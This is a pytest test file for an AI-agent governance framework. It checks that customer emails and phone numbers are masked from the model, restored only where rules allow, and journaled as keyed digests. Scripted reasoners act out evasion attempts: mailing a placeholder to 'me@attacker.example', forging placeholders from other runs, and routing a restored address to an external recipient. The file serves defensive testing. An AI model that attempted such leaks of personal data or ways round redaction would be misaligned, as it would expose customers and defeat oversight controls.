"""Redaction in the demo world: contact details masked before the reasoner sees them,
given back only where the charter allows, journaled as digests."""

from __future__ import annotations

import hashlib
import json
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from charter import Agent, Charter, Journal, Runner, load_agent, tool
from charter.demo.world import connect, create_world, default_world_path
from charter.journal import load_or_create_signer
from charter.policy import Label, Rule
from charter.policy._redact import PLACEHOLDER, Match, RedactRule
from charter.reasoners import RunContext, ToolCall
from charter.runtime._redaction import Redactions
from charter.runtime._replay import replay
from charter.testing import ScriptedReasoner, call, make_agent, respond

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "redact.agent.yaml"
TICKET = 900
PHONE = "+1 415 555 0134"


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CHARTER_HOME", str(tmp_path))
    path = create_world(default_world_path())
    with connect(path) as conn:
        conn.execute(
            "INSERT INTO tickets VALUES (?, 17, 'Call me', ?, 'open', '2026-11-20T10:00:00Z')",
            (TICKET, f"My chair is broken. Call me at {PHONE} or write to maya@home.example."),
        )
    return path


@pytest.fixture
def journal(tmp_path: Path) -> Journal:
    return Journal(f"sqlite:///{tmp_path / 'j.db'}", load_or_create_signer(tmp_path / "k.pem"))


def _email_of(world: Path, customer_id: int) -> str:
    with connect(world) as conn:
        row = conn.execute("SELECT email FROM customers WHERE id = ?", (customer_id,)).fetchone()
    return str(row[0])


def _replies(world: Path, ticket_id: int) -> list[str]:
    with connect(world) as conn:
        rows = conn.execute(
            "SELECT body FROM ticket_replies WHERE ticket_id = ? ORDER BY id", (ticket_id,)
        ).fetchall()
    return [str(r[0]) for r in rows]


def _journal_text(journal: Journal, run_id: str) -> str:
    return json.dumps([r.payload for r in journal.records(run_id)])


def _seen(context: RunContext) -> str:
    return " ".join(t.observation.render() for t in context.turns)


def test_the_example_masks_contact_details_and_the_reply_reaches_the_customer(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)
    email = _email_of(world, 17)

    run = Runner(journal).run(agent, f"Answer ticket {TICKET}")

    assert run.status == "completed", run.error
    seen = " ".join(s.observation.render() for s in run.steps if s.observation is not None)
    assert email not in seen and PHONE not in seen and "maya@home.example" not in seen
    assert "[redacted:email#" in seen and "[redacted:phone#" in seen
    # The reply names the ticket by id, and carries the real address given back by charter.
    assert _replies(world, TICKET) == [
        f"Hello Maya Okafor, we are on it; a confirmation goes to {email}."
    ]
    assert run.answer is not None and email not in run.answer and "[redacted:email#" in run.answer
    text = _journal_text(journal, run.run_id)
    assert email not in text and PHONE not in text and "maya@home.example" not in text
    assert journal.verify().ok


def test_the_journal_keeps_a_keyed_digest_of_each_masked_value_and_which_rule(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)
    runner = Runner(journal)
    email = _email_of(world, 17)

    run = runner.run(agent, f"Answer ticket {TICKET}")

    effects = [r.payload for r in journal.records(run.run_id) if r.kind == "step.effect"]
    masked = [m for p in effects for m in p.get("redacted", [])]
    assert {(m["rule"], m["kind"]) for m in masked} == {
        ("contact-in-text", "phone"),
        ("contact-in-text", "email"),
        ("customer-record", "email"),
    }
    vault = runner.governor.redactions.of(run.run_id)
    record = next(m for m in masked if m["rule"] == "customer-record")
    assert record["digest"] == vault.digest(email) and record["path"] == "email"
    assert PLACEHOLDER.fullmatch(record["placeholder"])
    # A plain SHA-256 of the value (what someone could compute by guessing) is not it.
    assert hashlib.sha256(email.encode()).hexdigest() != record["digest"]
    decided = [r.payload for r in journal.records(run.run_id) if r.kind == "step.decided"]
    restored = [x for p in decided for x in p.get("restored", [])]
    assert restored == [
        {
            "rule": "customer-record",
            "arg": "body",
            "placeholder": record["placeholder"],
            "digest": record["digest"],
            "label": {"trust": "trusted", "confidentiality": "pii"},
        }
    ]


def test_a_tool_asked_to_echo_a_placeholder_echoes_the_placeholder(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)

    def echo(context: RunContext) -> ToolCall:  # the model asks a tool to echo the value
        placeholder = PLACEHOLDER.search(_seen(context))
        assert placeholder is not None
        return call("send_email", to="me@attacker.example", subject="x", body=placeholder.group())

    agent.reasoner = ScriptedReasoner(
        [call("lookup_customer", customer_id=17), echo, respond("done")]
    )
    email = _email_of(world, 17)

    run = Runner(journal).run(agent, "Check customer 17")

    with connect(world) as conn:
        sent = conn.execute("SELECT body FROM email_outbox ORDER BY id DESC").fetchone()
    assert sent is not None and PLACEHOLDER.fullmatch(sent[0])  # not restored: not allowed
    assert email not in _journal_text(journal, run.run_id)


def _scripted(script: list[Any], **charter_update: Any) -> Agent:
    agent = load_agent(EXAMPLE)
    agent.reasoner = ScriptedReasoner(script)
    if charter_update:
        agent.charter = agent.charter.model_copy(update=charter_update)
    return agent


def _placeholder_in(context: RunContext, kind: str = "email") -> str:
    found = [m.group() for m in PLACEHOLDER.finditer(_seen(context)) if m.group(1) == kind]
    assert found, _seen(context)
    return found[-1]


def test_a_placeholder_forged_from_another_runs_value_is_refused(
    world: Path, journal: Journal
) -> None:
    runner = Runner(journal)
    first = runner.run(
        _scripted([call("lookup_customer", customer_id=17), respond("ok")]), "Check customer 17"
    )
    theirs = [m.group() for m in PLACEHOLDER.finditer(str(first.steps[0].observation))]
    assert theirs

    def reply(context: RunContext) -> ToolCall:  # the other run's placeholder, same value
        assert theirs[0] not in _seen(context)  # a different run: a different tag
        return call("reply_ticket", ticket_id=TICKET, body=f"Mail goes to {theirs[0]}")

    second = runner.run(
        _scripted([call("lookup_customer", customer_id=17), reply, respond("done")]),
        f"Answer ticket {TICKET}",
    )

    refused = second.steps[1].observation
    assert refused is not None and refused.status == "invalid_arguments"
    assert "not a value this run masked" in str(refused.content)
    assert _replies(world, TICKET) == []


def test_a_made_up_placeholder_is_refused_and_the_tool_never_runs(
    world: Path, journal: Journal
) -> None:
    agent = _scripted(
        [
            call("reply_ticket", ticket_id=TICKET, body="Call [redacted:phone#0badc0de]"),
            respond("done"),
        ]
    )

    run = Runner(journal).run(agent, f"Answer ticket {TICKET}")

    assert run.steps[0].observation is not None
    assert run.steps[0].observation.status == "invalid_arguments"
    assert _replies(world, TICKET) == []


def test_a_placeholder_restored_into_an_external_recipient_is_refused_by_the_flow_rules(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)
    rules = [
        rule.model_copy(update={"restore": [*rule.restore, "send_email.to"]})
        for rule in agent.charter.redact
    ]

    def mail(context: RunContext) -> ToolCall:
        return call("send_email", to=_placeholder_in(context), subject="Hi", body="Your order")

    agent = _scripted(
        [call("lookup_customer", customer_id=17), mail, respond("done")], redact=rules
    )

    run = Runner(journal).run(agent, "Email customer 17")

    decision = run.steps[1].decision
    assert decision is not None and decision.verdict == "deny"
    assert decision.rules == ("flow.confidential-to-external",)
    with connect(world) as conn:
        assert conn.execute("SELECT COUNT(*) FROM email_outbox").fetchone()[0] == 0
    assert _email_of(world, 17) not in _journal_text(journal, run.run_id)


def test_a_placeholder_in_an_argument_no_restore_names_reaches_the_tool_as_text(
    world: Path, journal: Journal
) -> None:
    def search(context: RunContext) -> ToolCall:  # the model asks a tool to echo the value
        return call("search_kb", query=f"refund {_placeholder_in(context)}")

    agent = _scripted([call("lookup_customer", customer_id=17), search, respond("done")])

    run = Runner(journal).run(agent, "Check customer 17")

    effects = [r.payload for r in journal.records(run.run_id) if r.kind == "step.effect"]
    assert effects[1]["status"] == "ok"
    assert PLACEHOLDER.search(effects[1]["result"]["query"])  # echoed back as it was
    assert _email_of(world, 17) not in _journal_text(journal, run.run_id)


def _ask_on_replies(agent: Agent) -> Agent:
    rule = Rule(id="replies-need-a-look", effect="ask", tools=["reply_ticket"])
    agent.charter = agent.charter.model_copy(update={"rules": [rule]})
    return agent


def _reply_with_address(context: RunContext) -> ToolCall:
    return call("reply_ticket", ticket_id=TICKET, body=f"We wrote to {_placeholder_in(context)}")


def test_an_approved_call_with_a_placeholder_is_restored_when_resumed_in_the_same_process(
    world: Path, journal: Journal
) -> None:
    agent = _ask_on_replies(
        _scripted([call("lookup_customer", customer_id=17), _reply_with_address, respond("ok")])
    )
    runner = Runner(journal)
    email = _email_of(world, 17)

    waiting = runner.run(agent, f"Answer ticket {TICKET}", actor="sam")
    assert waiting.status == "waiting"
    (requested,) = journal.records_of_kind("approval.requested")
    assert email not in json.dumps(requested.payload)  # the approver sees the placeholder
    runner.approvals.approve(str(waiting.waiting_for), "dana", "fine")
    done = runner.resume(agent, waiting.run_id)

    assert done.status == "completed", done.error
    assert _replies(world, TICKET) == [f"We wrote to {email}"]
    assert email not in _journal_text(journal, waiting.run_id)


def test_a_run_resumed_by_another_process_cannot_restore_and_says_so(
    world: Path, journal: Journal, tmp_path: Path
) -> None:
    agent = _ask_on_replies(
        _scripted([call("lookup_customer", customer_id=17), _reply_with_address, respond("ok")])
    )
    waiting = Runner(journal).run(agent, f"Answer ticket {TICKET}", actor="sam")
    Runner(journal).approvals.approve(str(waiting.waiting_for), "dana", "fine")
    elsewhere = Journal(f"sqlite:///{tmp_path / 'j.db'}", load_or_create_signer(tmp_path / "k.pem"))

    done = Runner(elsewhere).resume(agent, waiting.run_id)  # the values stayed behind

    refused = done.steps[1].observation
    assert refused is not None and refused.status == "invalid_arguments"
    assert "look the value up again" in str(refused.content)
    assert _replies(world, TICKET) == []


def test_an_argument_path_is_masked_before_the_tool_runs(world: Path, journal: Journal) -> None:
    agent = _scripted([call("search_kb", query="refund for ana@example.com"), respond("ok")])
    masking = RedactRule(id="queries", tools=["search_kb"], on=["arguments"], patterns=["email"])
    agent.charter = agent.charter.model_copy(update={"redact": [*agent.charter.redact, masking]})

    run = Runner(journal).run(agent, "Look up the refund policy")

    decision = run.steps[0].decision
    assert decision is not None and decision.verdict == "redact"
    assert decision.rules == ("tools.allow", "redact.queries")
    (effect,) = [r.payload for r in journal.records(run.run_id) if r.kind == "step.effect"]
    assert effect["status"] == "ok"
    assert PLACEHOLDER.search(effect["result"]["query"])  # the tool got the placeholder
    assert "ana@example.com" not in effect["result"]["query"]


def test_a_redact_rule_with_nothing_to_mask_withholds_the_call(
    world: Path, journal: Journal
) -> None:
    agent = _scripted([call("lookup_customer", customer_id=17), respond("ok")])
    rule = Rule(id="careful", effect="redact", tools=["lookup_customer"], reason="mask it")
    agent.charter = agent.charter.model_copy(update={"rules": [rule]})

    run = Runner(journal).run(agent, "Check customer 17")

    decision, observation = run.steps[0].decision, run.steps[0].observation
    assert decision is not None and decision.verdict == "redact"
    assert "nothing the redact rules name was found to mask" in decision.reason
    assert observation is not None and observation.status == "denied"
    assert [r for r in journal.records(run.run_id) if r.kind == "step.effect"] == []


released = threading.Event()


@tool(side_effect="write", timeout_s=0.05, targets=("customer_id",))
def register_contact(customer_id: int) -> dict[str, Any]:
    """Register a customer's contact; hangs past its timeout until released."""
    released.wait(5)
    return {"customer_id": customer_id, "email": "late@example.com"}


def test_a_late_result_of_a_timed_out_write_is_masked_before_it_is_journaled(
    tmp_path: Path,
) -> None:
    released.clear()
    journal = Journal(f"sqlite:///{tmp_path / 'late.db'}")
    charter = Charter.model_validate(
        {"name": "c", "redact": [{"id": "mail", "patterns": ["email"]}]}
    )
    agent = make_agent(
        [register_contact],
        ScriptedReasoner([call("register_contact", customer_id=3), respond("done")]),
        charter=charter,
    )
    runner = Runner(journal)
    try:
        run = runner.run(agent, "register customer 3")
        released.set()
        deadline = time.monotonic() + 10
        found: list[dict[str, Any]] = []
        while not found and time.monotonic() < deadline:
            found = [r.payload for r in journal.records(run.run_id) if r.kind == "effect.resolved"]
            time.sleep(0.01)
    finally:
        released.set()
        runner.close()

    (resolved,) = found
    assert resolved["outcome"] == "happened"
    assert PLACEHOLDER.fullmatch(resolved["result"]["email"])
    assert [m["rule"] for m in resolved["redacted"]] == ["mail"]
    assert "late@example.com" not in _journal_text(journal, run.run_id)


def test_an_argument_the_tool_cannot_take_masked_is_denied_not_run_unmasked(
    world: Path, journal: Journal
) -> None:
    agent = _scripted([call("lookup_customer", customer_id=17), respond("ok")])
    masking = RedactRule(id="ids", tools=["lookup_customer"], args=["customer_id"])
    agent.charter = agent.charter.model_copy(update={"redact": [masking]})

    run = Runner(journal).run(agent, "Check customer 17")

    decision = run.steps[0].decision
    assert decision is not None and decision.verdict == "deny"
    assert "lookup_customer refuses the masked value" in decision.reason
    assert [r for r in journal.records(run.run_id) if r.kind == "step.effect"] == []


def test_a_call_asked_about_that_the_tool_cannot_take_masked_is_denied_before_asking(
    world: Path, journal: Journal
) -> None:
    agent = _scripted([call("lookup_customer", customer_id=17), respond("ok")])
    masking = RedactRule(id="ids", tools=["lookup_customer"], args=["customer_id"])
    ask = Rule(id="look-first", effect="ask", tools=["lookup_customer"])
    agent.charter = agent.charter.model_copy(update={"redact": [masking], "rules": [ask]})

    run = Runner(journal).run(agent, "Check customer 17", actor="sam")

    decision = run.steps[0].decision
    assert run.status == "completed" and run.waiting_for is None
    assert decision is not None and decision.verdict == "deny"
    assert journal.records_of_kind("approval.requested") == []
    assert [r for r in journal.records(run.run_id) if r.kind == "step.effect"] == []


def test_an_approved_call_runs_with_its_arguments_masked(world: Path, journal: Journal) -> None:
    agent = _scripted([call("search_kb", query="refund for ana@example.com"), respond("ok")])
    masking = RedactRule(id="queries", tools=["search_kb"], on=["arguments"], patterns=["email"])
    ask = Rule(id="search-first", effect="ask", tools=["search_kb"])
    agent.charter = agent.charter.model_copy(update={"redact": [masking], "rules": [ask]})
    runner = Runner(journal)

    waiting = runner.run(agent, "Look up the refund policy", actor="sam")
    (requested,) = journal.records_of_kind("approval.requested")
    runner.approvals.approve(str(waiting.waiting_for), "dana", "fine")
    done = runner.resume(agent, waiting.run_id)

    assert done.status == "completed", done.error
    assert PLACEHOLDER.search(requested.payload["args"]["query"])  # asked about as masked
    (effect,) = [r.payload for r in journal.records(done.run_id) if r.kind == "step.effect"]
    assert PLACEHOLDER.search(effect["result"]["query"])
    assert "ana@example.com" not in effect["result"]["query"]


notes: list[str] = []


@tool(confidentiality="internal", fields={"email": "pii"})
def lookup_person(person_id: int) -> dict[str, Any]:
    """A person and their address."""
    return {"person_id": person_id, "email": "ada@home.example"}


@tool(side_effect="write", targets=("person_id",))
def post_note(person_id: int, note: str) -> dict[str, Any]:
    """Save a note on a person, and echo it."""
    notes.append(note)
    return {"person_id": person_id, "saved": note}


def test_a_tool_echoing_a_value_given_back_to_it_has_it_masked_again(tmp_path: Path) -> None:
    notes.clear()
    journal = Journal(f"sqlite:///{tmp_path / 'echo.db'}")
    charter = Charter.model_validate(
        {
            "name": "c",
            "redact": [
                {
                    "id": "people",
                    "tools": ["lookup_person"],
                    "labels": ["pii"],
                    "restore": ["post_note.note"],
                }
            ],
        }
    )

    def note(context: RunContext) -> ToolCall:
        return call("post_note", person_id=1, note=f"write to {_placeholder_in(context)}")

    agent = make_agent(
        [lookup_person, post_note],
        ScriptedReasoner([call("lookup_person", person_id=1), note, respond("done")]),
        charter=charter,
    )

    run = Runner(journal).run(agent, "note person 1")

    assert notes == ["write to ada@home.example"]  # the tool got the value
    echoed = run.steps[1].observation
    assert echoed is not None and "ada@home.example" not in echoed.render()
    assert "write to [redacted:email#" in echoed.render()
    assert "ada@home.example" not in _journal_text(journal, run.run_id)


def _match(value: str) -> Match:
    return Match("r", "email", "email", value)


def test_the_digest_key_comes_from_the_journal_key_so_an_auditor_can_recompute_it(
    tmp_path: Path,
) -> None:
    signer = load_or_create_signer(tmp_path / "k.pem")
    here = Redactions(Journal("sqlite://", signer)).of("run-1")
    elsewhere = Redactions(Journal("sqlite://", load_or_create_signer(tmp_path / "k.pem")))
    other_key = Redactions(Journal("sqlite://", load_or_create_signer(tmp_path / "k2.pem")))

    assert here.key_id == signer.key_id
    assert here.digest("ada@example.com") == elsewhere.of("run-1").digest("ada@example.com")
    assert here.digest("ada@example.com") != other_key.of("run-1").digest("ada@example.com")
    assert here.digest("ada@example.com") != elsewhere.of("run-2").digest("ada@example.com")


def test_without_a_journal_key_digests_use_a_key_of_this_process() -> None:
    redaction = Redactions(Journal("sqlite://")).of("run-1")

    assert redaction.key_id == "ephemeral"
    assert redaction.digest("5550134") != hashlib.sha256(b"5550134").hexdigest()


def test_a_placeholder_is_stable_within_a_run_and_differs_between_values_and_runs() -> None:
    redactions = Redactions(Journal("sqlite://"))
    run = redactions.of("run-1")

    first, _ = run.placeholder(_match("ada@example.com"), Label())
    again, _ = run.placeholder(_match("ada@example.com"), Label())
    other, _ = run.placeholder(_match("bob@example.com"), Label())
    elsewhere, _ = redactions.of("run-2").placeholder(_match("ada@example.com"), Label())

    assert first == again != other
    assert elsewhere != first
    assert PLACEHOLDER.fullmatch(first)


def test_a_finished_runs_values_are_forgotten() -> None:
    redactions = Redactions(Journal("sqlite://"))
    run = redactions.of("run-1")
    placeholder, _ = run.placeholder(_match("ada@example.com"), Label())

    redactions.forget("run-1")
    restored = redactions.of("run-1").restore(
        "t", {"to": placeholder}, [RedactRule(id="r", restore=["t.to"])]
    )

    assert restored.problem is not None and "not a value this run masked" in restored.problem


def test_replay_decides_a_redacted_run_as_it_was_decided(world: Path, journal: Journal) -> None:
    agent = load_agent(EXAMPLE)
    masking = RedactRule(id="queries", tools=["search_kb"], on=["arguments"], patterns=["email"])
    agent.charter = agent.charter.model_copy(update={"redact": [*agent.charter.redact, masking]})
    agent.reasoner = ScriptedReasoner(
        [
            call("search_kb", query="refund for ana@example.com"),
            call("lookup_customer", customer_id=17),
            _reply_with_address,  # the customer's placeholder, given back into the body
            respond("done"),
        ]
    )
    run = Runner(journal).run(agent, f"Answer ticket {TICKET}")
    assert run.status == "completed", run.error
    assert _replies(world, TICKET) == [f"We wrote to {_email_of(world, 17)}"]

    replayed = replay(journal, agent, run.run_id)

    verdicts = [s.now.verdict for s in replayed if s.now is not None]
    assert verdicts == ["redact", "allow", "allow"]
    assert not any(s.changed for s in replayed)


def test_a_placeholder_of_a_rule_whose_restore_does_not_name_the_argument_is_refused(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)
    masking = RedactRule(id="queries", tools=["search_kb"], on=["arguments"], patterns=["email"])
    agent.charter = agent.charter.model_copy(update={"redact": [*agent.charter.redact, masking]})
    agent.reasoner = ScriptedReasoner(
        [call("search_kb", query="refund for ana@example.com"), _reply_with_address, respond("x")]
    )

    run = Runner(journal).run(agent, f"Answer ticket {TICKET}")

    refused = run.steps[1].observation
    assert refused is not None and refused.status == "invalid_arguments"
    assert "masked by rule queries, whose restore does not name reply_ticket.body" in str(
        refused.content
    )
    assert _replies(world, TICKET) == []
